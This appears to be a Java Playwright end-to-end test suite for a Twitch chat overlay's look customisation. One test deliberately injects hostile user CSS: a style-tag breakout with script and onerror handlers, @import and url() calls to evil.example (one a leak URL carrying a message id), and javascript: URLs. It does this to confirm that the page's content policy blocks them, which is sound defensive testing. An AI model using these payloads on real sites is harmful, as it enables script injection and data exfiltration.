package net.ramforth.multichat.journey;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static net.ramforth.multichat.journey.Stage.assertSaved;
import static net.ramforth.multichat.journey.Stage.assertShows;
import static net.ramforth.multichat.journey.Stage.messages;
import static net.ramforth.multichat.journey.Stage.overlayUrl;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.FilePayload;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;

/** An overlay is made one's own while it is on stream. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class LookJourney {

  private Stage stage;
  private Page dashboard;
  private Page overlay;
  private Page look;

  @BeforeAll
  void adaReadsHerChannel(@TempDir Path directory) {
    stage = Stage.withoutKeys(directory);
    dashboard = stage.adasBrowser.newPage();
    dashboard.navigate(stage.product.url());
    dashboard.getByText("Use on this computer").click();
    dashboard.locator("#channel-name").fill("ada");
    dashboard.getByText("Read this chat").click();
    overlay = stage.openOverlay(overlayUrl(dashboard));
    stage.twitch.awaitJoined("ada");
  }

  @AfterAll
  void curtain() {
    stage.close();
  }

  @BeforeEach
  void theLookIsAsItComes() {
    stage.twitch.channel("ada").clears();
    assertThat(messages(overlay)).hasCount(0);
    dashboard.bringToFront();
    look = Stage.customise(dashboard);
    look.locator("#reset").click();
    assertThat(look.locator("#said")).containsText("As the design has it");
  }

  @AfterEach
  void theLookIsPutAway() {
    look.evaluate(
        """
        async () => {
          const meta = (name) => document.querySelector(`meta[name=${name}]`).content;
          await fetch("/api/settings", {
            method: "POST",
            headers: { "Content-Type": "application/json", [meta("csrf-header")]: meta("csrf-token") },
            body: JSON.stringify({
              template: "clean",
              css: { text: "", hosts: [] },
              pacing: { speed: "smooth", holdSeconds: 0 },
            }),
          });
        }\
        """);
    look.close();
  }

  @Test
  void aDesignAndThreeChangesReachTheOverlayThatIsOpen() {
    stage.twitch.channel("ada").says("mara", "hello");
    assertShows(overlay, "hello");

    look.getByText("Terminal", new Page.GetByTextOptions().setExact(true)).click();
    assertThat(root()).hasAttribute("data-template", "terminal");
    look.locator("#textSizePx").fill("31");
    look.locator("#textSizePx").blur();
    look.getByText("At the top").click();
    look.locator("#showTimes").check();
    assertSaved(look);

    assertThat(root()).hasAttribute("data-newest", "top");
    assertThat(root()).hasAttribute("data-show-times", "true");
    assertThat(overlay.locator(".message .time")).isVisible();
    assertThat(property("--setting-text-size")).isEqualTo("31px");
    assertThat(messages(overlay).first().boundingBox().y).isLessThan(100);

    look.locator("#undo").click();
    assertThat(root()).hasAttribute("data-show-times", "false");
    look.locator("#redo").click();
    assertThat(root()).hasAttribute("data-show-times", "true");
    assertThat(messages(overlay)).hasCount(1);
  }

  @Test
  void thePreviewFollowsWhileSomethingIsStillBeingChosen() {
    var rows = preview().locator("#chat .message");
    assertThat(rows.nth(5)).isVisible();
    look.locator("#backgroundColor")
        .evaluate(
            "input => { input.value = '#336699'; input.dispatchEvent(new Event('input', {bubbles:"
                + " true})) }");
    assertThat(rows.filter(plain()).first()).hasCSS("background-color", "rgba(51, 102, 153, 0.8)");
    assertThat(root()).not().hasAttribute("data-background-color", "#336699");
  }

  @Test
  void anotherTabFollowsAndDoesNotOverwrite() {
    var other = Stage.customise(dashboard);
    other.locator("#showTimes").check();
    assertSaved(other);
    assertThat(look.locator("#showTimes")).isChecked();
    look.bringToFront();
    look.locator("#showAvatars").check();
    assertSaved(look);
    assertThat(root()).hasAttribute("data-show-times", "true");
    assertThat(root()).hasAttribute("data-show-avatars", "true");
    other.close();
  }

  @Test
  void ownCssWinsAndABrokenSheetCostsItselfAlone() {
    stage.twitch.channel("ada").says("mara", "hello");
    write(".text { color: rgb(1, 2, 3) }\n.author { colour: red }\n}} .time { {");
    assertThat(look.locator("#css-problems button").first())
        .hasText("Line 2: No browser knows the property “colour”");
    assertThat(preview().locator(".message .text").last()).hasCSS("color", "rgb(1, 2, 3)");
    assertThat(overlay.locator(".message .text")).not().hasCSS("color", "rgb(1, 2, 3)");

    look.locator("#css-save").click();
    assertSaved(look);
    assertThat(overlay.locator(".message .text")).hasCSS("color", "rgb(1, 2, 3)");
    assertThat(messages(overlay)).isVisible();
    stage.twitch.channel("ada").says("mo", "still here");
    assertShows(overlay, "hello", "still here");
  }

  @Test
  void cssStylesAndDoesNotAct() {
    stage.twitch.channel("ada").says("mara", "hello");
    assertShows(overlay, "hello");
    countRefusals();
    write(
        """
        </style><script>window.acted = true</script><img src=x onerror="window.acted = true">
        @import "https://evil.example/a.css";
        @import url(//evil.example/b.css);
        @font-face { font-family: evil; src: url(https://evil.example/font.woff2) }
        .message { behavior: url(evil.htc); -moz-binding: url("https://evil.example/x.xml#x") }
        .message[data-id] { background: url(https://evil.example/leak?id=1) !important }
        .text { font-family: evil; cursor: url(https://evil.example/c.cur), auto }
        .author::after { content: url(javascript:alert(1)); background: image-set("https://evil.example/2x.png" 2x) }
        """);
    look.locator("#css-save").click();
    assertSaved(look);
    await().until(() -> !overlay.locator("#own-css").textContent().isEmpty());
    await().until(() -> refused().contains("evil.example/leak"));
    assertThat(stage.wantedElsewhere()).noneMatch(url -> url.contains("evil"));
    assertThat(overlay.evaluate("window.acted")).isNull();
    assertThat(messages(overlay)).isVisible();
  }

  @Test
  void aHostOfAdasChoiceIsAskedAndNoOther() {
    look.locator("#css-hosts").fill("images.example.org");
    look.locator("#css-hosts").blur();
    assertSaved(look);
    assertThat(root()).hasAttribute("data-hosts", "images.example.org");
    countRefusals();
    write(
        "#chat { background: url(https://images.example.org/a.png), url(https://evil.example/b.png)"
            + " }");
    look.locator("#css-save").click();
    await().until(() -> refused().contains("evil.example"));
    assertThat(refused()).doesNotContain("images.example.org");
  }

  @Test
  void moderatorsSeeFirstWhatTheStreamSeesLater() {
    look.locator("#pacing-holdSeconds").fill("3");
    look.locator("#pacing-holdSeconds").blur();
    assertSaved(look);
    var ada = stage.twitch.channel("ada");
    ada.says("mara", "fine");
    var bad = ada.says("trev", "not fine");
    assertThat(dashboard.locator("#chat").getByText("not fine")).isVisible();
    assertThat(messages(overlay)).hasCount(0);
    ada.deletes(bad);
    assertThat(dashboard.locator("#chat").getByText("not fine")).hasCount(0);
    assertShows(overlay, "fine");
    overlay.waitForTimeout(3_500);
    assertShows(overlay, "fine");
  }

  @Test
  void calmChatSaysHowManyMessagesItLeftOut() {
    look.locator("#pacing-messagesPerSecond").fill("1");
    look.locator("#pacing-messagesPerSecond").blur();
    assertSaved(look);
    look.waitForResponse(
        "**/settings",
        () -> look.getByText("Calm", new Page.GetByTextOptions().setExact(true)).click());
    // What waits when the speed is changed is shown, so the overlay has to have heard of it.
    overlay.waitForTimeout(500);
    var ada = stage.twitch.channel("ada");
    for (int i = 0; i < 12; i++) {
      ada.says("mara", "line " + i);
    }
    assertThat(overlay.locator("#skipped")).hasText(java.util.regex.Pattern.compile("\\+\\d+"));
    assertThat(messages(overlay).count()).isLessThan(12);
  }

  @Test
  void aLookIsSharedAsAFile() throws Exception {
    look.getByText("Cards", new Page.GetByTextOptions().setExact(true)).click();
    assertSaved(look);
    var file = look.waitForDownload(() -> look.getByText("Export").click());
    var shared = Files.readString(file.path());
    assertThat(shared).contains("\"template\":\"cards\"").doesNotContain("/overlay/");

    look.locator("#undo").click();
    assertThat(root()).hasAttribute("data-template", "clean");
    take(shared.replace("\"cards\"", "\"glass\""));
    assertThat(root()).hasAttribute("data-template", "glass");
    take("{\"format\":\"multichat-look\",\"look\":{\"wings\":2}}");
    assertThat(look.locator("#said")).containsText("no look of ours");
    take("no json");
    assertThat(look.locator("#said")).containsText("no look of ours");
    assertThat(root()).hasAttribute("data-template", "glass");
  }

  @Test
  void anotherOverlayHasAUrlAndALookOfItsOwn() {
    dashboard.bringToFront();
    dashboard.locator("#add-overlay").click();
    var row = dashboard.locator("#overlays .overlay").nth(1);
    var second = stage.openOverlay(row.getAttribute("data-url"));
    var other = dashboard.context().newPage();
    other.navigate(row.locator("[data-part=customise]").evaluate("a => a.href").toString());
    other.getByText("Ticker", new Page.GetByTextOptions().setExact(true)).click();
    assertThat(second.locator("html")).hasAttribute("data-template", "ticker");
    assertThat(root()).hasAttribute("data-template", "clean");
    assertThat(row.locator("[data-part=seen]")).containsText("Open now in");

    stage.twitch.channel("ada").says("mara", "on both");
    assertShows(overlay, "on both");
    assertShows(second, "on both");
    other.close();
    dashboard.bringToFront();
    row.locator("[data-part=delete]").click();
    row.locator("[data-part=yes]").click();
    assertThat(dashboard.locator("#overlays .overlay")).hasCount(1);
    assertThat(messages(second)).hasCount(0);
    second.close();
  }

  @Test
  void rowsLeaveWhenTheirTimeIsOver() {
    look.locator("#fadeAfterSeconds").fill("2");
    look.locator("#fadeAfterSeconds").blur();
    assertSaved(look);
    stage.twitch.channel("ada").says("mara", "hello");
    assertThat(messages(overlay)).isVisible();
    assertThat(messages(overlay)).isHidden();
  }

  @Test
  void whoGoesOnWritingIsNamedOnce() {
    look.locator("#groupMessages").check();
    assertSaved(look);
    var ada = stage.twitch.channel("ada");
    var first = ada.says("mara", "one");
    ada.says("mara", "two");
    ada.says("mo", "three");
    assertShows(overlay, "one", "two", "three");
    assertThat(overlay.locator(".author:visible")).hasText(new String[] {"Mara", "Mo"});
    ada.deletes(first);
    assertThat(overlay.locator(".author:visible")).hasText(new String[] {"Mara", "Mo"});
  }

  private void countRefusals() {
    overlay.evaluate(
        """
        window.refused = [];
        addEventListener("securitypolicyviolation", (event) => refused.push(event.blockedURI))\
        """);
  }

  /** What the page's policy kept the page from loading. */
  private String refused() {
    return overlay.evaluate("refused.join()").toString();
  }

  private Locator root() {
    return overlay.locator("html");
  }

  private Object property(String name) {
    return overlay.evaluate("name => document.documentElement.style.getPropertyValue(name)", name);
  }

  private com.microsoft.playwright.FrameLocator preview() {
    return look.frameLocator("#preview");
  }

  private static Locator.FilterOptions plain() {
    return new Locator.FilterOptions().setHasText("hi from");
  }

  private void write(String css) {
    look.locator(".CodeMirror").waitFor();
    look.evaluate("css => document.querySelector('.CodeMirror').CodeMirror.setValue(css)", css);
  }

  private void take(String file) {
    look.locator("#import")
        .setInputFiles(
            new FilePayload(
                "look.json", "application/json", file.getBytes(StandardCharsets.UTF_8)));
  }
}
